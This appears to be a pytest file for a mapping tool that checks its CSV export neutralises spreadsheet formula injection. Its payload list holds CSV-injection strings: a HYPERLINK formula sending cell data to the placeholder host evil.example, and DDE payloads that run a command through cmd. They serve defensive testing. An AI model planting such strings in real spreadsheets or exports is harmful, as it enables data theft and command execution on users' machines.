"""Issue 11.11: no CSV we write lets a spreadsheet run a cell as a formula."""

from __future__ import annotations

import csv
import json

import pytest

from cocreate_map.cli import main
from cocreate_map.io.spreadsheet import safe_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_text_is_neutralised(text):
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("value", ["-12.5", "+3", "1e5", "3号楼", "", 0, -4, None, "a=b"])
def test_plain_values_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_cocreate_export_csv_neutralises_names_and_attributes(sqlite_url, tmp_path):
    features = [
        {
            "type": "Feature",
            "properties": {"kind": "building", "name": text, "note": text, text: "x"},
            "geometry": {
                "type": "Polygon",
                "coordinates": [
                    [
                        [121.4 + i * 1e-4, 31.2],
                        [121.4 + i * 1e-4 + 5e-5, 31.2],
                        [121.4 + i * 1e-4 + 5e-5, 31.20005],
                        [121.4 + i * 1e-4, 31.20005],
                        [121.4 + i * 1e-4, 31.2],
                    ]
                ],
            },
        }
        for i, text in enumerate(PAYLOADS)
    ]
    src = tmp_path / "evil.geojson"
    src.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    assert main(["import", str(src), "--community", "evil", "--create", "恶意小区"]) == 0
    out = tmp_path / "out.csv"
    assert main(["export", "--community", "evil", "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    cells = [cell for row in rows for cell in row]
    names = [row[rows[0].index("name")] for row in rows[1:]]
    assert len(names) == len(PAYLOADS) and all(n.startswith("'") for n in names), names
    dangerous = [c for c in cells if c.lstrip(" \t")[:1] in ("=", "+", "-", "@", "＝")]
    assert dangerous == [], dangerous
